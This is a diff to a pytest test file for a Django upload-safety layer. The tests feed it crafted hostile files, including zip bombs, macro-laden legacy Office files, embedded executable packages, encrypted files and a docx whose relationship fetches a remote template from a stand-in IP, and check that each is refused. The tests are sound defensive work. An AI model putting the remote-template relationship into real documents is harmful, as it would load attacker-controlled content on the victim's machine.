@@ -1,4 +1,4 @@
-"""The safe reading layer, fed real crafted files: bombs, macros, damage."""
+"""The one upload door, fed real crafted files: bombs, macros, legacy formats, damage."""
 import io
 import struct
 import time
@@ -9,7 +9,8 @@ import openpyxl
 import pytest
 from django.utils import translation
 
-from reports.excel.safe import UnreadableFile, UnsafeFile, check_upload, open_workbook, read_rows
+from core.uploads import UnreadableFile, UnsafeFile, check_upload, open_workbook, read_rows
+from tests import hostile
 
 
 @pytest.fixture(autouse=True)
@@ -103,7 +104,7 @@ def test_a_zip_bomb_whose_headers_lie_is_refused_while_inflating():
 
 
 def test_too_many_parts_are_refused(settings):
-    settings.EXCEL_MAX_ENTRIES = 50
+    settings.UPLOAD_MAX_ENTRIES = 50
     data = rewrite(plain_xlsx(), add={f"xl/media/p{i}.bin": b"x" for i in range(60)})
     with pytest.raises(UnsafeFile, match="too many parts"):
         check_upload(file(data))
@@ -156,7 +157,7 @@ def test_a_truncated_file_gets_a_plain_message():
 
 
 def test_a_file_that_is_not_a_workbook_gets_a_plain_message():
-    with pytest.raises(UnreadableFile, match="damaged"):
+    with pytest.raises(UnreadableFile, match=r"does not contain what its name says \(\.xlsx\)"):
         check_upload(file(b"name,value\n1,2\n"))
     with pytest.raises(UnreadableFile, match=r"\.xlsx"):
         check_upload(file(plain_xlsx(), name="plan.pdf"))
@@ -173,6 +174,62 @@ def test_a_corrupted_part_gets_a_plain_message():
 
 
 def test_an_upload_over_the_size_limit_is_refused(settings):
-    settings.EXCEL_UPLOAD_MAX_BYTES = 1000
+    settings.UPLOAD_MAX_BYTES = 1000
     with pytest.raises(UnsafeFile, match="MB"):
         check_upload(file(plain_xlsx()))
+
+
+def test_a_word_file_renamed_xlsx_is_refused_by_its_content():
+    with pytest.raises(UnreadableFile, match="does not contain what its name says"):
+        check_upload(file(hostile.plain_docx(), name="台账.xlsx"), kinds=("xlsx", "docx"))
+
+
+def test_clean_legacy_files_are_accepted_where_a_path_takes_them():
+    assert check_upload(file(hostile.clean_xls(), name="旧表.xls"), kinds=("xls",)).content_type == \
+        "application/vnd.ms-excel"
+    assert check_upload(file(hostile.clean_doc(), name="旧文.doc"), kinds=("doc",)).kind == "doc"
+
+
+@pytest.mark.parametrize("name, build, message", [
+    ("宏.xls", hostile.macro_xls, "VBA project"),
+    ("宏.doc", hostile.macro_doc, "VBA project"),
+    ("宏表.xls", hostile.xlm_macro_xls, "Excel 4.0 macro sheets"),
+])
+def test_legacy_files_with_macros_are_refused(name, build, message):
+    with pytest.raises(UnsafeFile, match=message):
+        check_upload(file(build(), name=name), kinds=("xls", "doc"))
+
+
+def test_a_legacy_file_carrying_an_embedded_package_is_refused():
+    data = hostile._compound_file({"WordDocument": b"\xec\xa5" + bytes(1022),
+                                   "ObjectPool/_1/\x01Ole10Native": b"MZ" + bytes(200)})
+    with pytest.raises(UnsafeFile, match="embedded file"):
+        check_upload(file(data, name="附件.doc"), kinds=("doc",))
+
+
+def test_a_password_protected_office_file_is_refused_as_uncheckable():
+    data = hostile._compound_file({"EncryptionInfo": b"\x04\x00", "EncryptedPackage": bytes(500)})
+    with pytest.raises(UnsafeFile, match="password-protected"):
+        check_upload(file(data, name="加密.xlsx"))
+
+
+def test_a_macro_docx_renamed_is_refused():
+    with pytest.raises(UnsafeFile, match="macros"):
+        check_upload(file(hostile.macro_docx(), name="报告.docx"), kinds=("docx",))
+
+
+def test_a_document_that_fetches_a_remote_template_is_refused():
+    data = hostile.plain_docx()
+    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+            b'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
+            b'</Relationships>')
+    with pytest.raises(UnsafeFile, match="198.51.100.7"):
+        check_upload(file(hostile.rewrite(data, add={"word/_rels/settings.xml.rels": rels}), name="a.docx"),
+                     kinds=("docx",))
+
+
+def test_photos_and_pdfs_are_known_by_their_signature():
+    assert check_upload(file(b"\xff\xd8\xff\xe0" + bytes(40), name="照片.JPG"), kinds=("jpeg",)).kind == "jpeg"
+    with pytest.raises(UnreadableFile):
+        check_upload(file(b"%PDF-1.7\n" + bytes(40), name="照片.jpg"), kinds=("jpeg", "pdf"))
